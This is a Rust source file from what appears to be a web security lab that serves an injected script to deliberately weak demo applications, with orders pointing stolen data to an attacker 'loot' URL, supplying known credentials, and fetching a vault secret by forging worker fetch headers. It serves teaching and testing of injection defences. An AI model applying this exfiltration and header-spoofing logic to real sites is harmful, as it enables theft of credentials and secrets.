//! The injected script, as an application's page loads it, with the orders for this page.

use axum::{
    Router,
    extract::{Query, State},
    response::Response,
    routing::get,
};
use serde_json::{Value, json};

use super::{
    Lab, careless, http_client,
    matrix_run::{Attack, NOTE},
    purpose::Purpose,
    responses,
    victim_app::VictimApp,
    weak_app::PERSON,
};
use crate::{demo_data::DEMO_PASSWORD, static_files::LAB_JS};

impl Lab {
    /// Returns the routes that the lab adds to every application under attack.
    pub(super) fn injected_routes<S: Clone + Send + Sync + 'static>(&self) -> Router<S> {
        let own = Router::new()
            .route("/lab/injected.js", get(script))
            .route("/lab/seen.svg", get(seen))
            .with_state(self.clone());
        Router::new().merge(own).merge(careless::upload())
    }

    /// Returns the orders for the script, or `None` if there is nothing to do for this purpose.
    async fn orders(&self, purpose: &Purpose) -> Option<Value> {
        let query = purpose.query()?;
        let home = format!("{}/loot?{query}", self.0.attacker.origin);
        if let Some((step, app)) = purpose.step() {
            let mut orders = self.known_of(app);
            orders["mode"] = json!(if step == 2 { "sign-in" } else { "guided" });
            orders["note"] = json!(format!("{NOTE} the script makes the page send a request"));
            orders["seen"] = json!(format!("/lab/seen.svg?{query}"));
            orders["home"] = json!(home);
            return Some(orders);
        }
        let (run, number) = purpose.attempt()?;
        let (app, attack, note) = {
            let current = self.run();
            let attempt = current.attempt(number).filter(|_| current.id == run)?;
            (attempt.app, attempt.attack.clone(), attempt.note.clone())
        };
        let mut orders = self.known_of(app);
        orders["note"] = json!(note);
        orders["home"] = json!(home);
        let Some(Attack { id, brings_boot, .. }) = attack else {
            orders["mode"] = json!("sign-in");
            return Some(orders);
        };
        orders["mode"] = json!("attack");
        orders["attack"] = json!(id);
        if brings_boot {
            orders["boot"] = self.boot(app).await;
        }
        Some(orders)
    }

    /// Returns what an attacker knows who has studied the application before.
    fn known_of(&self, app: VictimApp) -> Value {
        let (script, api, password) = match self.weak_app(app) {
            Some(weak_app) => ("/worker.js", "/api", weak_app.password()),
            None => ("/auth/vault.js", "/lab/api", DEMO_PASSWORD),
        };
        json!({
            "victim": app,
            "script": script,
            "echo": format!("{api}/echo"),
            "redirect": format!("{api}/redirect"),
            "upload": "/upload.js",
            "evil": self.0.attacker.origin,
            "credentials": { "name": PERSON, "password": password },
        })
    }

    /// Returns a vault secret, fetched by a program that sends the headers of a worker load. Returns an invented one for
    /// an application without a vault.
    async fn boot(&self, app: VictimApp) -> Value {
        let invented = json!({ "secretId": "AAAA", "secret": "AAAA", "now": 0 });
        if app.is_weak() {
            return invented;
        }
        let headers = [
            ("sec-fetch-dest", "worker"),
            ("sec-fetch-mode", "same-origin"),
            ("sec-fetch-site", "same-origin"),
        ];
        let answer = http_client::get(self.0.bank.address, "/auth/vault.js", &headers).await;
        let text = answer.map(|(_, text)| text).unwrap_or_default();
        let boot = text.split_once("const boot=").and_then(|(_, rest)| rest.split_once(";\n"));
        boot.and_then(|(boot, _)| serde_json::from_str(boot).ok()).unwrap_or(invented)
    }
}

/// Answers `GET /lab/injected.js`.
async fn script(State(lab): State<Lab>, Query(purpose): Query<Purpose>) -> Response {
    let orders = lab.orders(&purpose).await;
    let orders = orders.map_or_else(String::new, |orders| format!("self.orders = {orders};\n"));
    responses::script(orders + LAB_JS)
}

/// Answers `GET /lab/seen.svg`: the script says by this image how far the guided attack is. Every policy lets a page
/// load images of its own server.
async fn seen(State(lab): State<Lab>, Query(purpose): Query<Purpose>) -> Response {
    if let Some((step, app)) = purpose.step() {
        lab.reached(app, step);
    }
    responses::pixel()
}
